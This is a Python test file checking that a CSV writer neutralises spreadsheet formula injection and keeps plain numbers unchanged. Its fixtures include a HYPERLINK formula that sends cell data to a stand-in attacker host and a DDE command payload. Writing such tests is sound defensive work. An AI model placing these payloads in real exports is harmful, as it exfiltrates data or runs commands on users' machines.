"""CSV output never carries a live formula (OWASP CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from deploy.cli import write_rows
from sinks.csv_file import safe_cell, write_csv


def csv_bytes(rows: list[dict[str, object]]) -> bytes:
    out = io.StringIO(newline="")
    write_rows(rows, "csv", out)
    return out.getvalue().encode()


def test_report_csv_neutralises_formulas_byte_for_byte() -> None:
    rows = [
        {"business_day": "2026-11-26", "rep_id": '=HYPERLINK("http://evil.example/?x="&A1,"pay")',
         "team_id": "@SUM(1+1)", "dials": 3, "revenue": "-12.50"},
        {"business_day": "2026-11-26", "rep_id": "+cmd|' /C calc'!A0", "team_id": "-2+3",
         "dials": 0, "revenue": "1299.00"},
        {"business_day": "2026-11-26", "rep_id": "\tTAB", "team_id": "\rCR", "dials": 1, "revenue": "0.00"},
        {"business_day": "2026-11-26", "rep_id": "rep-1", "team_id": "team a, b", "dials": 2,
         "revenue": "+5"},
    ]  # fmt: skip
    assert csv_bytes(rows) == (
        b"business_day,rep_id,team_id,dials,revenue\r\n"
        b'2026-11-26,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""pay"")",\'@SUM(1+1),3,-12.50\r\n'
        b"2026-11-26,'+cmd|' /C calc'!A0,'-2+3,0,1299.00\r\n"
        b"2026-11-26,'\tTAB,\"'\rCR\",1,0.00\r\n"  # a CR inside a cell is quoted: no new row
        b'2026-11-26,rep-1,"team a, b",2,+5\r\n'
    )


def test_what_a_spreadsheet_reads_back_starts_with_a_quote() -> None:
    """Parsed as CSV again, every dangerous cell starts with ' and nothing else changed."""
    dangerous = ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "＝1+1", "－1+1", "＋1", "＠A1"]
    out = io.StringIO(newline="")
    write_csv(out, [{"cell": value} for value in dangerous])
    cells = [row[0] for row in csv.reader(io.StringIO(out.getvalue(), newline=""))][1:]
    assert cells == ["'" + value for value in dangerous]


@pytest.mark.parametrize("number", ["-12.50", "-0.01", "-7", "+12.5", "12.50", "0"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["-1e5", "-12.", "-.5", "--1", "-1 ", "-12.50\n", "-", "+"])
def test_only_plain_numbers_escape_the_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_non_text_cells_are_written_as_values() -> None:
    assert [safe_cell(v) for v in (-3, Decimal("-1E+2"), None, 1.5)] == [-3, "-100", None, 1.5]


def test_no_rows_writes_nothing_unless_columns_are_given() -> None:
    out = io.StringIO()
    write_csv(out, [])
    assert out.getvalue() == ""
    write_csv(out, [], columns=["rep_id", "=bad"])
    assert out.getvalue() == "rep_id,'=bad\r\n"


def test_rows_can_be_streamed() -> None:
    out = io.StringIO()
    write_csv(out, ({"n": i} for i in range(3)))
    assert out.getvalue() == "n\r\n0\r\n1\r\n2\r\n"
